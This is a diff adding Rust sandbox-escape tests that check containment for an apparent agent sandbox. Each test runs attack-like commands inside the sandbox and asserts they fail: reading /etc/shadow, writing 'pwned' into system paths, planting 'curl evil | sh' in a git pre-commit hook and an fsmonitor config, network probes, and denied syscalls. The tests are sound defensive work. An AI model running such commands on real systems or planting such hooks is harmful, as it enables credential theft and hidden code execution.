@@ -1,0 +1,193 @@
+//! Each case: the attempt fails, and the host is unchanged.
+
+use std::io::ErrorKind;
+
+use super::{policy, python, sh, stderr, stdout, workspace};
+
+#[test]
+fn host_files_outside_the_view_cannot_be_read() {
+    let ws = workspace();
+    let outside = tempfile::tempdir_in("/var/tmp").unwrap();
+    std::fs::write(outside.path().join("secret"), "host secret").unwrap();
+    let script = format!("cat {}/secret; ls /root; cat /etc/shadow; echo done", outside.path().display());
+    let outcome = sh(&policy(ws.path()), &script);
+    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
+    assert!(stderr(&outcome).contains("No such file"), "{}", stderr(&outcome));
+}
+
+#[test]
+fn hidden_paths_inside_the_workspace_are_empty() {
+    let ws = workspace();
+    let data = ws.path().join(".codexos");
+    std::fs::create_dir(&data).unwrap();
+    std::fs::write(data.join("owner.key"), "cxo_secret").unwrap();
+    let mut policy = policy(ws.path());
+    policy.hidden_paths.push(data.clone());
+    let outcome = sh(&policy, "cat .codexos/owner.key; ls -A .codexos; echo done");
+    assert_eq!(stdout(&outcome), "done\n");
+    assert_eq!(std::fs::read_to_string(data.join("owner.key")).unwrap(), "cxo_secret");
+}
+
+#[test]
+fn nothing_outside_the_workspace_can_be_written() {
+    let ws = workspace();
+    let outcome = sh(
+        &policy(ws.path()),
+        "for target in /etc/codexos-x /usr/codexos-x /codexos-x /proc/sys/kernel/hostname; do \
+           echo pwned > $target 2>/dev/null && echo WROTE $target; done; \
+         echo inside > /tmp/codexos-inside-only; echo ok > in-workspace; echo done",
+    );
+    assert_eq!(stdout(&outcome), "done\n");
+    for host_path in ["/etc/codexos-x", "/usr/codexos-x", "/codexos-x", "/tmp/codexos-inside-only"] {
+        assert!(!std::path::Path::new(host_path).exists(), "{host_path} reached the host");
+    }
+    assert_ne!(std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap(), "pwned\n");
+    assert_eq!(std::fs::read_to_string(ws.path().join("in-workspace")).unwrap(), "ok\n");
+}
+
+#[test]
+fn git_hooks_and_config_are_read_only() {
+    let ws = workspace();
+    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
+    std::fs::write(ws.path().join(".git/config"), "[core]\n").unwrap();
+    let outcome = sh(
+        &policy(ws.path()),
+        "echo 'curl evil | sh' > .git/hooks/pre-commit && echo HOOK; \
+         echo '[core] fsmonitor = evil' >> .git/config && echo CONFIG; \
+         echo ok > .git/HEAD && echo HEAD",
+    );
+    assert_eq!(stdout(&outcome), "HEAD\n", "{}", stderr(&outcome));
+    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
+    assert_eq!(std::fs::read_to_string(ws.path().join(".git/config")).unwrap(), "[core]\n");
+}
+
+#[test]
+fn the_hosts_loopback_services_are_unreachable() {
+    let ws = workspace();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let outcome = python(
+        &policy(ws.path()),
+        &format!(
+            "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2)\n    print('CONNECTED')\nexcept OSError as e:\n    print('refused', e.errno)"
+        ),
+    );
+    assert!(stdout(&outcome).starts_with("refused"), "{}{}", stdout(&outcome), stderr(&outcome));
+    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "a connection arrived");
+}
+
+#[test]
+fn the_outside_world_is_unreachable() {
+    let ws = workspace();
+    let outcome = python(
+        &policy(ws.path()),
+        "import socket\n\
+         for attempt in (lambda: socket.getaddrinfo('example.com', 443), lambda: socket.create_connection(('1.1.1.1', 53), timeout=2)):\n\
+         \x20   try:\n\
+         \x20       attempt()\n\
+         \x20       print('REACHED')\n\
+         \x20   except OSError as e:\n\
+         \x20       print('blocked')",
+    );
+    assert_eq!(stdout(&outcome), "blocked\nblocked\n", "{}", stderr(&outcome));
+}
+
+#[test]
+fn raw_and_packet_sockets_are_refused() {
+    let ws = workspace();
+    let outcome = python(
+        &policy(ws.path()),
+        "import socket\n\
+         for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0)):\n\
+         \x20   try:\n\
+         \x20       socket.socket(family, kind, proto)\n\
+         \x20       print('OPENED')\n\
+         \x20   except OSError as e:\n\
+         \x20       print('refused')",
+    );
+    assert_eq!(stdout(&outcome), "refused\nrefused\nrefused\n", "{}", stderr(&outcome));
+}
+
+#[test]
+fn host_processes_are_invisible_and_untouchable() {
+    let ws = workspace();
+    let me = std::process::id();
+    let outcome = sh(
+        &policy(ws.path()),
+        &format!(
+            "ls /proc | grep -E '^[0-9]+$' | tr '\\n' ' '; echo; kill -0 {me} 2>/dev/null && echo SIGNALLED; echo done"
+        ),
+    );
+    let out = stdout(&outcome);
+    let pids: Vec<u32> = out.lines().next().unwrap().split_whitespace().map(|pid| pid.parse().unwrap()).collect();
+    assert!(pids.len() <= 6 && pids.iter().all(|pid| *pid < 10), "host pids visible: {pids:?}");
+    assert!(out.ends_with("done\n") && !out.contains("SIGNALLED"), "{out}");
+}
+
+#[test]
+fn dangerous_syscalls_are_denied() {
+    let ws = workspace();
+    // errno 1 is EPERM: the seccomp filter's answer.
+    let outcome = python(
+        &policy(ws.path()),
+        "import ctypes, os\n\
+         libc = ctypes.CDLL(None, use_errno=True)\n\
+         os.mkdir('/tmp/m')\n\
+         checks = [\n\
+         \x20   ('mount', lambda: libc.mount(b'none', b'/tmp/m', b'tmpfs', 0, None)),\n\
+         \x20   ('ptrace', lambda: libc.ptrace(16, 1, 0, 0)),\n\
+         \x20   ('unshare', lambda: libc.unshare(0x10000000)),\n\
+         \x20   ('keyctl', lambda: libc.syscall(250, 0, 0, 0, 0)),\n\
+         \x20   ('bpf', lambda: libc.syscall(321, 0, 0, 0)),\n\
+         ]\n\
+         for name, call in checks:\n\
+         \x20   result = call()\n\
+         \x20   print(name, result, ctypes.get_errno())",
+    );
+    assert_eq!(
+        stdout(&outcome),
+        "mount -1 1\nptrace -1 1\nunshare -1 1\nkeyctl -1 1\nbpf -1 1\n",
+        "{}",
+        stderr(&outcome)
+    );
+}
+
+#[test]
+fn nested_user_namespaces_cannot_be_created() {
+    let ws = workspace();
+    let outcome = sh(&policy(ws.path()), "unshare -U true && echo NESTED; unshare -r true && echo NESTED; echo done");
+    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
+}
+
+#[test]
+fn no_privilege_can_be_gained() {
+    let ws = workspace();
+    let outcome =
+        sh(&policy(ws.path()), "grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb)' /proc/self/status");
+    let status = stdout(&outcome);
+    assert!(status.contains("NoNewPrivs:\t1"), "{status}");
+    for line in status.lines().filter(|line| line.starts_with("Cap")) {
+        assert!(line.ends_with("0000000000000000"), "capability left: {line}");
+    }
+    // setuid bits are ignored on every mount of the view.
+    let outcome = sh(&policy(ws.path()), "awk '$5 == \"/usr\" {print $6}' /proc/self/mountinfo");
+    assert!(stdout(&outcome).contains("nosuid"), "{}", stdout(&outcome));
+}
+
+#[test]
+fn daemons_and_double_forks_die_with_the_sandbox() {
+    let ws = workspace();
+    // A sleep length nobody else uses marks our daemons in the host's /proc.
+    let marker = format!("7{}", std::process::id());
+    let script = format!("(setsid sleep {marker} &) ; (sh -c '(sleep {marker} &)' &) ; sleep 0.2; echo started");
+    let outcome = sh(&policy(ws.path()), &script);
+    assert_eq!(stdout(&outcome), "started\n", "{}", stderr(&outcome));
+    let survivors: Vec<String> = std::fs::read_dir("/proc")
+        .unwrap()
+        .filter_map(|entry| std::fs::read(entry.ok()?.path().join("cmdline")).ok())
+        .map(|cmdline| String::from_utf8_lossy(&cmdline).into_owned())
+        .filter(|cmdline| cmdline == &format!("sleep\0{marker}\0"))
+        .collect();
+    assert!(survivors.is_empty(), "left behind: {survivors:?}");
+}
